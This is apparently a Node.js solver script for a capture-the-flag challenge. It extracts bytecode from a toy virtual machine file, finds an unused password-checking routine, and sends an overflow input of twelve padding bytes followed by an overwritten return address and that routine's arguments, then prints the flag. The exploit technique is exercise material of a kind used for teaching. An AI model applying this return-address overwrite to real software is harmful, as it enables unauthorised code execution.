// @ts-check
import { spawnSync } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'

const machine = fileURLToPath(new URL('files/bilge-pump.mjs', import.meta.url))
const source = readFileSync(machine, 'utf8')
const program = Buffer.from(
  [...source.matchAll(/^ {2}'([\da-f]+)'/gm)].map((found) => found[1]).join(''),
  'hex',
)

// An unused routine: take A, compare, leave if different, take B, X = the sealed text.
const sluice = program.findIndex(
  (byte, at) =>
    byte === 0x15 && program[at + 1] === 0x30 && program[at + 3] === 0x14 && program[at + 5] === 0x16,
)
const password = program[sluice + 2]
const sealed = program[sluice + 7]
const key = program[sealed] ^ 'f'.charCodeAt(0)

// Twelve bytes for the name, the return address, then what the sluice takes from the stack.
const line = Buffer.concat([Buffer.from('A'.repeat(12)), Buffer.of(sluice, password, key), Buffer.from('\n')])
const { stdout } = spawnSync(process.execPath, [machine], { input: line })
console.log(/flag\{\w+\}/.exec(stdout.toString())?.[0])
